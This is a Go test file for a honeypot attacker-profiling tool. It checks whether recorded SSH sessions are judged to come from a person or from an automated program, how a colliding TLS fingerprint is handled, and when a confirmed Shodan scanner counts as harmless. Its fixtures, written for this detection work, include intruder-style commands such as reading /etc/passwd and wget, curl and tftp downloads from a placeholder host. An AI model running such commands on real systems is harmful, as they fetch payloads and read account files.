package profile

import (
	"fmt"
	"slices"
	"strings"
	"testing"

	"dossier/correlate/event"
	"dossier/correlate/state"
	"dossier/profile/enrich"
	"dossier/profile/rules"
)

// typing returns commands in a shell, each so many seconds behind the one before.
// Without a session it is as DECNET tells them.
func typing(session string, gaps []float64, lines ...string) []*event.Event {
	events := []*event.Event{{
		Time: morning - second, Addr: someone, Decky: "decky-01", Service: "ssh", Type: "auth_attempt", Kind: event.Scan, Phase: event.Recon, Proof: event.ByConnection,
		Evidence: []event.Evidence{{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Outcome: event.Success}},
	}}
	now := morning
	for i, line := range lines {
		now += event.Time(gaps[i%len(gaps)] * float64(second))
		events = append(events, &event.Event{
			Time: now, Addr: someone, Decky: "decky-01", Service: "ssh", Type: "command", Kind: event.Interaction, Phase: event.Exfil, Proof: event.ByConnection,
			Evidence: []event.Evidence{{Kind: event.Command, A: line, C: session}},
		})
	}
	return events
}

// Somebody types only where pauses within one session say so: what comes at once,
// at a beat, over several sessions or behind a download is a program's.
func TestKindHandsOn(t *testing.T) {
	r := renderer(t, Options{})
	some := []string{"w", "id", "uname -a", "cat /etc/passwd", "ls /home", "df -h"}
	pauses := []float64{0, 9, 4, 21, 7, 12}
	sessions := func(gap float64) (all []*event.Event) {
		for i, line := range some {
			one := typing(fmt.Sprint("s", i), []float64{float64(i) * gap}, line)
			all = append(all, one...)
		}
		return all
	}
	reconnects := func() (all []*event.Event) {
		for i := range some {
			one := typing("", []float64{0}, some[i])
			for _, ev := range one {
				ev.Time += event.Time(i*i+11*i) * second
			}
			all = append(all, one...)
		}
		return all
	}
	for name, tt := range map[string]struct {
		events []*event.Event
		person bool
	}{
		"pauses of one session":                 {typing("s", pauses, some...), true},
		"without a name of the session":         {typing("", pauses, some...), true},
		"at once":                               {typing("s", []float64{0, 0.2}, some...), false},
		"a second apart":                        {typing("s", []float64{0, 1}, some...), false},
		"a program that sleeps":                 {typing("s", []float64{0, 5, 5.01, 5, 5.02}, some...), false},
		"each in a session of its own":          {sessions(7), false},
		"each behind a login":                   {reconnects(), false},
		"two pauses":                            {typing("s", pauses, some[:3]...), false},
		"a slip put right":                      {typing("s", []float64{0, 3}, "whoaim", "whoami"), true},
		"a slip put right at once":              {typing("s", []float64{0, 0.1}, "whoaim", "whoami"), false},
		"another command that no system has":    {typing("s", []float64{0, 3}, "linuxshell", "sh"), false},
		"waiting for downloads":                 {typing("s", pauses, "wget http://192.0.2.1/a", "curl -O http://192.0.2.1/b", "sleep 20", "cd /tmp && wget http://192.0.2.1/c", "/bin/busybox tftp -g 192.0.2.1", "ls"), false},
		"a coffee break":                        {typing("s", []float64{0, 700, 900, 800, 1200}, some...), false},
		"pasted, with three pauses among many":  {typing("s", []float64{0, 0.1, 0.1, 0.1, 0.1, 9, 0.1, 0.1, 0.1, 14, 0.1, 0.1, 0.1, 4}, slices.Concat(some, some, some)...), false},
		"a person's session beside a program's": {append(typing("a", pauses, some...), typing("b", []float64{0, 0.1}, some...)...), true},
	} {
		doc := decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, tt.events)))
		kind, why := at(doc, "behavior.kind"), fmt.Sprint(at(doc, "behavior.kind_why"))
		says := strings.Contains(fmt.Sprint(at(doc, "risk.reasons")), "person at a keyboard") && strings.Contains(fmt.Sprint(at(doc, "threat.indicator.description")), "person at a keyboard")
		if (kind == KindHandsOn) != tt.person || says != tt.person || (at(doc, "behavior.pauses") != nil) != tt.person || strings.Contains(why, "pauses of") != tt.person {
			t.Errorf("%s: %v, %s; the text says a person: %v", name, kind, why, says)
		}
	}
}

// The pauses are the same whatever order the commands came in and in however many
// chunks, and a state that knows no turns shows none.
func TestKindIsFreeOfOrder(t *testing.T) {
	r := renderer(t, Options{})
	events := typing("s", []float64{0, 9, 4, 21, 7, 12}, "w", "id", "uname -a", "cat /etc/passwd", "ls /home", "df -h")
	want := fmt.Sprint(at(decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, events))), "behavior"))
	s, a := new(state.Attacker), new(event.Arena)
	for _, ev := range slices.Backward(events) {
		s.Fold(a, "sensor-1", false, []*event.Event{ev})
	}
	if got := fmt.Sprint(at(decode(t, r.AppendAttacker(nil, headOf(someone), s)), "behavior.pauses")); !strings.Contains(want, got) || got == "<nil>" {
		t.Errorf("backwards: %s, want what is in %s", got, want)
	}
	s.Turns.Reset()
	r.judged = judged{}
	if got := at(decode(t, r.AppendAttacker(nil, headOf(someone), s)), "behavior.kind"); got != KindAutomated {
		t.Errorf("without turns: %v", got)
	}
}

// A signature that ordinary clients have too names nobody, and says so.
func TestCollidingSignatureNamesNobody(t *testing.T) {
	r := renderer(t, Options{})
	ev := &event.Event{
		Time: morning, Addr: someone, Decky: "decky-01", Service: "https", Type: "tls_client_hello", Kind: event.Scan, Phase: event.Recon, Proof: event.ByConnection,
		Evidence: []event.Evidence{{Kind: event.Fingerprint, A: "ja3", B: "4d7a28d6f2263ed61de88ca66eb011e3"}},
	}
	doc := decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, []*event.Event{ev})))
	evidence := fmt.Sprint(at(doc, "behavior.tool_evidence"))
	if at(doc, "behavior.tools") != nil || at(doc, "software") != nil || at(doc, "threat.software") != nil || strings.Contains(fmt.Sprint(at(doc, "risk.reasons")), "emotet") {
		t.Errorf("tools %v, software %v, risk %v", at(doc, "behavior.tools"), at(doc, "software"), at(doc, "risk"))
	}
	if !strings.Contains(evidence, "emotet") || !strings.Contains(evidence, "Schannel") {
		t.Errorf("evidence %s", evidence)
	}
}

// A known scanner's name makes harmless who only looks, where it is confirmed and
// nowhere else; the description says by what.
func TestHarmlessByName(t *testing.T) {
	look := func(evidence ...event.Evidence) []*event.Event {
		return []*event.Event{{
			Time: morning, Addr: someone, Decky: "decky-01", Service: "ssh", Type: "connect", Kind: event.Scan, Phase: event.Recon, Proof: event.ByConnection, Evidence: evidence,
		}}
	}
	login := event.Evidence{Kind: event.Login, A: "root", B: "plaintext", C: "toor", Outcome: event.Success}
	for name, tt := range map[string]struct {
		host      string
		confirmed bool
		events    []*event.Event
		basis     any
	}{
		"confirmed":       {"census1.shodan.io", true, look(), rules.ByName},
		"only reverse":    {"census1.shodan.io", false, look(), nil},
		"somebody else's": {"shodan.io.example.com", true, look(), nil},
		"logs in":         {"census1.shodan.io", true, look(login), nil},
	} {
		names := enrich.KnownNames()
		names.Tell(someone, tt.host, tt.confirmed)
		r := renderer(t, Options{Names: names})
		doc := decode(t, r.AppendAttacker(nil, headOf(someone), folded(r, tt.events)))
		score, _ := at(doc, "risk.score").(float64)
		benign := tt.basis != nil
		if at(doc, "classification_basis") != tt.basis || (at(doc, "classification") == rules.Benign) != benign || (score <= 10) != benign || (at(doc, "actor") == "Shodan") != strings.HasSuffix(tt.host, ".shodan.io") && tt.confirmed {
			t.Errorf("%s: %v by %v, %v, score %v", name, at(doc, "classification"), at(doc, "classification_basis"), at(doc, "actor"), score)
		}
		if said := strings.Contains(fmt.Sprint(at(doc, "threat.indicator.description")), "of Shodan by its name"); said != benign {
			t.Errorf("%s: %v", name, at(doc, "threat.indicator.description"))
		}
	}
}
